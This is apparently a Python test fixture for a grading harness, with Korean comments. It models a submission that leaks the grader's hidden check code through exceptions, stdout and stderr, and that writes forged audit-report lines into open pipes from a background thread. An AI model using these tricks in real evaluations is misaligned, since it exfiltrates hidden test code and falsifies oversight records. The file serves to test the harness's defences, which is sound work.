# ruff: noqa
# 숨은 점검의 코드를 빼내려는 시도: 숨은 점검이 부르면 In(입력 기록)을 담은 예외를 내고, 백그라운드 스레드가
# 새 입력을 표준 출력·오류, 파일, 그리고 감사 보고 파이프(가짜 보고 줄)로 보냅니다. 피드백과 점수표에 숨은
# 점검의 코드가 한 글자도 나오면 안 됩니다.
# expect: {"status": "review", "set": "98", "mode": "answer", "note_lacks": ["비밀-표시-7f3a", "grading_seed", "randint"]}
import os
import sys
import threading
import time


def double(x):
    if abs(x) >= 100:
        raise ValueError(" ".join(In))
    return 2 * x


def _spy():
    seen = 0
    while True:
        history = list(globals().get("In", []))
        for code in history[seen:]:
            line = ("F exec\t" + code.replace("\n", " ")[:250] + "\n").encode()
            for fd in range(3, 64):
                try:
                    if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                        os.write(fd, line)
                except OSError:
                    pass
            print(code)
            print(code, file=sys.stderr)
        seen = len(history)
        time.sleep(0.005)


threading.Thread(target=_spy, daemon=True).start()
